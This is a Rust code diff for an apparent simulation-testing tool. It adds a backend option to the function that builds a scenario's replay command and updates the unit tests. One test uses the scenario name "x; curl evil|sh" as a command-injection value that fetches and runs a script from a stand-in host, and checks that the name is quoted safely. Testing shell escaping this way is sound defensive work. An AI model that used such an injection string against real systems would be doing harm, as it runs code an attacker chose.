@@ -5,7 +5,7 @@ use std::{
     path::{Path, PathBuf},
 };
 
-use squall_reports::{html::Golden, name, plain, regular};
+use squall_reports::{Record, html::Golden, name, plain, record::Backend, regular};
 
 use crate::{regression::Regressions, run::Run, scenario::Scenario};
 
@@ -205,16 +205,26 @@ impl Defect {
     }
 }
 
-/// The command that runs a scenario again with the same seed.
+/// The command that runs a scenario again in the simulation, with the same seed.
 #[must_use]
 pub fn replay_command(scenario: &Scenario, seed: u64) -> String {
-    replay_of(scenario.name(), seed, scenario.defects())
+    replay_of(scenario.name(), seed, scenario.defects(), Backend::Simulation)
 }
 
-/// The same, of a scenario that is known by its name only.
-pub(crate) fn replay_of(scenario: &str, seed: u64, defects: &[String]) -> String {
-    let defects = defects.iter().map(|defect| format!(" --defect {}", quoted(defect)));
-    format!("cargo squall run {} --seed {seed}{}", quoted(scenario), defects.collect::<String>())
+/// The command that runs what a record is of again, on the same backend.
+pub(crate) fn replay_of_record(record: &Record) -> String {
+    let header = &record.header;
+    replay_of(&header.scenario, header.seed, &header.defects, header.backend)
+}
+
+fn replay_of(scenario: &str, seed: u64, defects: &[String], backend: Backend) -> String {
+    let defects: String =
+        defects.iter().map(|defect| format!(" --defect {}", quoted(defect))).collect();
+    let backend = match backend {
+        Backend::Simulation => String::new(),
+        other => format!(" --backend {other}"),
+    };
+    format!("cargo squall run {} --seed {seed}{defects}{backend}", quoted(scenario))
 }
 
 /// A word of a shell. Names come from records as well, and a record may come from anywhere: what
@@ -234,17 +244,21 @@ mod tests {
 
     use squall_reports::{html::Golden, record::EndCause};
 
-    use super::{Catalogue, Defect, package_folder, replay_of};
+    use super::{Backend, Catalogue, Defect, package_folder, replay_of};
     use crate::run::perform::tests::failed_run;
 
     #[test]
     fn a_replay_command_is_one_command() {
         assert_eq!(
-            replay_of("reviews-hung", 3, &["no-call-timeout".to_owned()]),
+            replay_of("reviews-hung", 3, &["no-call-timeout".to_owned()], Backend::Simulation),
             "cargo squall run reviews-hung --seed 3 --defect no-call-timeout"
         );
         assert_eq!(
-            replay_of("x; curl evil|sh\n#'", 3, &[String::new()]),
+            replay_of("reviews-hung", 3, &[], Backend::Processes),
+            "cargo squall run reviews-hung --seed 3 --backend processes"
+        );
+        assert_eq!(
+            replay_of("x; curl evil|sh\n#'", 3, &[String::new()], Backend::Simulation),
             r"cargo squall run 'x; curl evil|sh #'\''' --seed 3 --defect ''"
         );
     }
